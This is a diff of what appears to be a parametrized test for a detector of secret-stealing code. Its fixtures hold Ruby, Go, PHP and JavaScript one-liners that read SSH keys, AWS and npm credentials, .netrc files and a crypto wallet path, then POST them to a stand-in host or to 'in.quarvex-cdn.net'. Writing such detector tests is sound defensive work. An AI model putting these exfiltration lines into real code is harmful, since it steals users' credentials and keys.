@@ -20,7 +20,7 @@ def found(path: str, script: str, code: str, **about: str) -> list[Finding]:
     [
         ("scripts/a.rb", f"k = File.read(Dir.home + '/.npmrc') + File.read('.ssh/id_rsa')\nNet::HTTP.post(URI('{HOST}'), k)"),
         ("scripts/a.go", f'p := "/.aws/credentials"\nq := "/.ssh/id_rsa"\nhttp.Post("{HOST}", "text/plain", body)'),
-        ("scripts/a.php", f"<?php $k = get('/var/root/.ssh/id_rsa') . get('/var/root/.netrc'); curl_exec(curl_init('{HOST}'));"),
+        ("scripts/a.php", f"<?php $k=get('/var/root/.ssh/id_rsa') . get('/var/root/.netrc'); curl_exec(curl_init('{HOST}'));"),
         ("a.js", "const p = ['.electrum', '.ssh/id_rsa'];\nhttps.request({ host: 'in.quarvex-cdn.net', method: 'POST' });"),
     ],
     ids=["ruby", "go", "php", "a host without scheme"],
